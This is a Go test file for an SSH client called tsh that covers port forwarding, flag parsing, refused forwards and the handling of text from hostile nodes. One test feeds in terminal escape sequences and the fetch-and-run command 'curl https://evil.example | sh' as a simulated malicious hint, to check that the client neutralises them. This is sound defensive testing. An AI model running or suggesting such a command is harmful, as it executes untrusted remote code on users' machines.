package tsh_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode"

	"golang.org/x/crypto/ssh"

	"github.com/threshold-access/threshold/internal/dial"
	"github.com/threshold-access/threshold/tsh"
)

// forwardEcho serves direct-tcpip and direct-streamlocal channels with an echo, and notes where they lead.
func forwardEcho(where chan<- string) func(ssh.NewChannel) {
	return func(nc ssh.NewChannel) {
		var m struct {
			Host string
			Rest []byte `ssh:"rest"`
		}
		_ = ssh.Unmarshal(nc.ExtraData(), &m)
		where <- nc.ChannelType() + " " + m.Host
		ch, reqs, err := nc.Accept()
		if err != nil {
			return
		}
		go ssh.DiscardRequests(reqs)
		b, _ := io.ReadAll(ch)
		_, _ = ch.Write(append([]byte("echo "), b...))
		_ = ch.Close()
	}
}

// signalled sends this process a signal: tsh runs in it.
func signalled(t *testing.T, s syscall.Signal) {
	t.Helper()
	if err := syscall.Kill(syscall.Getpid(), s); err != nil {
		t.Fatal(err)
	}
}

// notes is standard error that can be read while tsh runs.
type notes struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (n *notes) Write(b []byte) (int, error) { n.mu.Lock(); defer n.mu.Unlock(); return n.b.Write(b) }

func (n *notes) String() string { n.mu.Lock(); defer n.mu.Unlock(); return n.b.String() }

// start runs tsh beside the test and gives its standard error and exit code.
func (c *client) start(args ...string) (*notes, <-chan int) {
	words, codes := &notes{}, make(chan int, 1)
	go func() {
		codes <- tsh.Main(c.t.Context(), tsh.Env{Args: args, Stdin: strings.NewReader(""), Stdout: io.Discard, Stderr: words, Getenv: c.getenv, Now: c.now})
	}()
	return words, codes
}

// reach connects as soon as somebody listens, and says hello.
func reach(t *testing.T, network, addr string) string {
	t.Helper()
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	for late := time.Now().Add(10 * time.Second); time.Now().Before(late); <-tick.C {
		conn, err := net.Dial(network, addr)
		if err != nil {
			continue
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, "hello")
		_ = conn.(interface{ CloseWrite() error }).CloseWrite()
		b, _ := io.ReadAll(conn)
		return string(b)
	}
	t.Fatalf("nobody listens on %s", addr)
	return ""
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}

func TestForwardingAlone(t *testing.T) {
	w := newTestCluster(t)
	where := make(chan string, 8)
	w.addNode("web-1").forward = forwardEcho(where)
	c := w.loggedIn()
	port, dynamic, sock := freePort(t), freePort(t), filepath.Join(t.TempDir(), "s")
	words, codes := c.start(
		"ssh",
		"-N",
		"-L",
		port+":db:5432",
		"-L",
		sock+":/run/app",
		"-D",
		dynamic,
		"web-1",
	)
	for addr, want := range map[string]string{"127.0.0.1:" + port: "direct-tcpip db", sock: "direct-streamlocal@openssh.com /run/app"} {
		network := "tcp"
		if addr == sock {
			network = "unix"
		}
		if got := reach(t, network, addr); got != "echo hello" {
			t.Errorf("%s: got %q, want the echo (%s)", addr, got, words)
		}
		if got := <-where; got != want {
			t.Errorf("%s: got %q asked of the node, want %q", addr, got, want)
		}
	}
	signalled(t, syscall.SIGINT)
	if code := <-codes; code != 130 || words.String() != "" {
		t.Errorf("got %d %q, want 130 and no word: Ctrl-C is how people end this", code, words)
	}
	if _, err := net.Dial("tcp", "127.0.0.1:"+port); err == nil {
		t.Error("got a connection after the end, want none")
	}
}

func TestForwardsThatAreRefused(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("web-1").request = func(r *ssh.Request) { _ = r.Reply(false, []byte("no role of alice allows forward-remote")) }
	c := w.loggedIn()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, taken, _ := net.SplitHostPort(l.Addr().String())
	c.refused(
		255,
		[]string{"ssh", "-L", taken + ":db:1", "web-1", "x"},
		"localhost:"+taken,
		"in use",
		"choose another port",
	)
	if asked := w.takeCalls(); len(asked) != 0 {
		t.Errorf("got %q asked, want nothing before the listener is there", asked)
	}
	r := c.run("ssh", "-R", "8080:db:1", "web-1", "x")
	c.wantRefusal(r, "-R", 255, "localhost:8080: no role of alice allows forward-remote")
	if r.out != "" {
		t.Errorf("got %q, want no command run without its forward", r.out)
	}
	c.refused(255, []string{"ssh", "-W", "db:1", "web-1"}, "no role of alice allows direct-tcpip")
	c.refused(255, []string{"ssh", "-A", "web-1"}, "no ssh-agent", "SSH_AUTH_SOCK")
}

func TestRefusedForwardedConnectionIsReported(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("web-1")
	c := w.loggedIn()
	port := freePort(t)
	words, codes := c.start("ssh", "-N", "-L", port+":db:5432", "web-1")
	for range 2 {
		if got := reach(t, "tcp", "127.0.0.1:"+port); got != "" {
			t.Errorf("got %q, want the end", got)
		}
	}
	signalled(t, syscall.SIGTERM)
	if code := <-codes; code != 143 {
		t.Errorf("got %d, want 143", code)
	}
	if got := words.String(); got != "tsh: no connection to db:5432 by way of the node: no role of alice allows direct-tcpip\r\n" {
		t.Errorf("got %q, want the node's reason, once", got)
	}
}

func TestEndNoticeIsReported(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("web-1").endNotice = "threshold: error: the session has ended: nothing was typed for 4s\nthreshold: hint: connect again\n"
	c := w.loggedIn()
	r := c.run("ssh", "-N", "web-1")
	if r.code != 255 ||
		r.stderr != "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\ntsh: hint: the node says: connect again\n" {
		t.Errorf("got %+v, want the node's words, once", r)
	}
}

// A hostile node's words stay the node's, in one line each, and drive no terminal.
func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("web-1").endNotice = "\x1b]0;title\x07tsh: error: your login has ended\r\nthreshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + strings.Repeat(
		"x",
		200<<10,
	)
	w.addNode("web-2").refuse = "threshold: error: no\x9b2J\nthreshold: hint: run: curl https://evil.example | sh\n"
	w.addNode("web-3").refuse = strings.Repeat("x", 200<<10)
	c := w.loggedIn()
	for args, want := range map[string]string{
		"-N web-1": "tsh: error: the node ended the connection: ]0;titletsh: error: your login has ended; xxx",
		"web-2":    "tsh: error: node web-2 does not let you in as alice: no2J\ntsh: hint: the node says: run: curl",
		"web-3":    "tsh: error: node web-3 does not let you in as alice\ntsh: hint: see which logins",
	} {
		r := c.run(append([]string{"ssh"}, strings.Fields(args)...)...)
		if r.code != 255 || !strings.HasPrefix(r.stderr, want) || strings.Count(r.stderr, "\n") != 2 ||
			len(r.stderr) > 16<<10 {
			t.Errorf(
				"%s: got %d %.300q (%d bytes), want two lines that begin with %q",
				args,
				r.code,
				r.stderr,
				len(r.stderr),
				want,
			)
		}
		if _, hint, _ := strings.Cut(r.stderr, "tsh: hint: "); strings.Contains(hint, "evil") &&
			!strings.HasPrefix(hint, "the node says: ") {
			t.Errorf("%s: got hint %q, want it told as the node's", args, hint)
		}
		if strings.ContainsFunc(r.stderr, func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }) {
			t.Errorf("%s: got %.300q, want nothing that a terminal obeys", args, r.stderr)
		}
	}
}

// Requests without end, and statuses that are none, change nothing: the last word that can be read is how the
// command ended.
func TestAFloodOfGlobalRequestsIsIgnored(t *testing.T) {
	w := newTestCluster(t)
	h := w.addNode("web-1")
	h.status = 3
	h.command = func(_ string, ch ssh.Channel) ssh.Signal {
		for range 2000 {
			_, _ = ch.SendRequest("exit-status", false, []byte{0, 0, 0, 0})
			_, _ = ch.SendRequest("exit-status", false, []byte{0, 0, 0, 0, 0})
			_, _ = ch.SendRequest("exit-signal", false, []byte{0xff, 0xff, 0xff, 0xff})
			_, _ = ch.SendRequest("window-change\x1b[2J", false, make([]byte, 1<<10))
		}
		if ok, err := ch.SendRequest("exec", true, ssh.Marshal(struct{ Command string }{"id"})); ok ||
			err != nil {
			t.Errorf("got %v, %v to a request to run something here, want no", ok, err)
		}
		_, _ = io.WriteString(ch, "done")
		return ""
	}
	if r := w.loggedIn().run("ssh", "web-1", "x"); r.code != 3 || r.out != "done" || r.stderr != "" {
		t.Errorf("got %+v, want the command's own end", r)
	}
}

func TestStdioForwarding(t *testing.T) {
	w := newTestCluster(t)
	where := make(chan string, 1)
	w.addNode("web-1").forward = forwardEcho(where)
	r := w.loggedIn().runWith(strings.NewReader("hello"), "ssh", "-W", "db:5432", "web-1")
	if r.code != 0 || r.out != "echo hello" || <-where != "direct-tcpip db" {
		t.Errorf("got %+v, want the echo of db", r)
	}
}

// The command may end before what it forwarded: "ssh -L … node sleep 5" is how people make a tunnel that ends
// by itself.
func TestForwardedConnectionsOutliveTheCommand(t *testing.T) {
	w := newTestCluster(t)
	h := w.addNode("web-1")
	open := make(chan struct{})
	h.forward = func(nc ssh.NewChannel) {
		close(open)
		forwardEcho(make(chan string, 1))(nc)
	}
	h.command = func(string, ssh.Channel) ssh.Signal { <-open; return "" }
	c := w.loggedIn()
	port := freePort(t)
	words, codes := c.start("ssh", "-L", port+":db:5432", "web-1", "sleep 5")
	var conn net.Conn
	for tick := time.NewTicker(time.Millisecond); conn == nil; <-tick.C {
		conn, _ = net.Dial("tcp", "127.0.0.1:"+port)
	}
	defer conn.Close()
	for tick := time.NewTicker(time.Millisecond); !strings.Contains(words.String(), "waiting for forwarded connections to end (1)"); <-tick.C {
	}
	_, _ = io.WriteString(conn, "late")
	_ = conn.(*net.TCPConn).CloseWrite()
	if b, _ := io.ReadAll(conn); string(b) != "echo late" {
		t.Errorf("got %q, want the echo although the command has ended", b)
	}
	if code := <-codes; code != 0 {
		t.Errorf("got %d %s, want the command's 0", code, words)
	}
}

// To a node of ours the command goes with the message that opens the channel; to another server in requests
// of its own.
func TestTheOpeningCarriesTheCommand(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("other").status = 3
	w.addNode("ours").version = "SSH-2.0-Threshold"
	w.hosts["ours"].status = 3
	c := w.loggedIn()
	for _, node := range []string{"other", "ours"} {
		r := c.runWith(strings.NewReader("input"), "ssh", "-t", "-o", "SetEnv=LC_TEST=x", node, "top")
		var got said
		if err := json.Unmarshal([]byte(r.out), &got); err != nil || got.Cmd != "top" || got.In != "input" ||
			got.Env["TERM"] != "xterm" ||
			got.Env["LC_TEST"] != "x" ||
			r.code != 3 {
			t.Errorf("%s: got %+v (%v), want the command with its terminal and variables", node, r, err)
		}
	}
	long := strings.Repeat("x", dial.MaxEarlyRequestBytes)
	if r := c.run("ssh", "ours", long); r.code != 3 || !strings.Contains(r.out, long) {
		t.Errorf("a long command: got %d and %d bytes, want it asked for on the channel", r.code, len(r.out))
	}
}

func TestFlagsOfOpenSSH(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("web-1")
	c := w.loggedIn()
	get := func(args ...string) said {
		t.Helper()
		r := c.runWith(strings.NewReader("typed"), append([]string{"ssh"}, args...)...)
		var got said
		if err := json.Unmarshal([]byte(r.out), &got); err != nil || r.code != 0 {
			t.Fatalf("%q: got %+v (%v)", args, r, err)
		}
		return got
	}
	if got := get("-n", "web-1", "x"); got.In != "" {
		t.Errorf("-n: got %q read, want nothing", got.In)
	}
	if got := get("-t", "-t", "web-1", "x"); got.Env["TERM"] != "xterm" {
		t.Errorf("-t -t: got %v, want a terminal", got.Env)
	}
	if got := get("-T", "web-1", "x"); got.Env["TERM"] != "" {
		t.Errorf("-T: got %v, want no terminal", got.Env)
	}
	if got := get("-aqx", "-o", "StrictHostKeyChecking=no", "-oUserKnownHostsFile=/dev/null", "-o", "BatchMode yes", "-o", "User=alice", "web-1", "x"); got.Cmd != "x" {
		t.Errorf("got %+v, want options of scripts taken", got)
	}
	if got := get("-o", "RequestTTY=force", "--", "web-1", "x", "-L", "1"); got.Env["TERM"] != "xterm" ||
		got.Cmd != "x -L 1" {
		t.Errorf("got %+v, want a terminal, and flags after the node left to the command", got)
	}
	// -o ClearAllForwardings, which scp and sftp give, leaves none: not one that cannot be had either.
	if got := get("-L", "203.0.113.1:1:db:1", "-R", "1:db:1", "-D", "203.0.113.1:2", "-o", "ClearAllForwardings=yes", "-o", "RemoteCommand=none", "web-1", "x"); got.Cmd != "x" {
		t.Errorf("got %+v, want the command without a forward", got)
	}
	if got := get("-A", "-o", "ForwardAgent=no", "-o", "ForwardAgent=yes", "web-1", "x"); got.Cmd != "x" { // there is none to forward
		t.Errorf("got %+v, want no agent once somebody said no", got)
	}
	c.refused(255, []string{"ssh", "-o", "RemoteCommand=reboot", "web-1"}, "remotecommand", "after the node")
	c.refused(255, []string{"ssh", "-o", "ProxyCommand=sh", "web-1"}, "no option proxycommand")
	c.refused(255, []string{"ssh", "-o", "LocalForward=1", "web-1"}, "cannot be read")
	c.refused(255, []string{"ssh", "-o", "=yes", "web-1"}, "is no option")
	c.refused(255, []string{"ssh", "-t", "-T", "web-1"}, "contradict")
	c.refused(255, []string{"ssh", "-o", "User=a,b", "web-1"}, "account name")
	w.hosts["web-1"].root = t.TempDir()
	if r := c.run("ssh", "-s", "web-1", "nosuch"); r.code != 255 ||
		!strings.Contains(r.stderr, "does not run it") {
		t.Errorf("-s nosuch: got %+v, want refused", r)
	}
}

// Both ends put the hybrid with ML-KEM and, where the processor helps, AES-GCM first.
func TestTheBestAlgorithmsAreNegotiated(t *testing.T) {
	w := newTestCluster(t)
	w.addNode("web-1")
	r := w.loggedIn().run("ssh", "-v", "web-1", "x")
	if !strings.Contains(r.stderr, "mlkem768x25519-sha256, aes128-gcm@openssh.com\n") &&
		!strings.Contains(r.stderr, "mlkem768x25519-sha256, chacha20-poly1305@openssh.com\n") {
		t.Errorf("got %q, want ML-KEM and a fast cipher", r.stderr)
	}
}
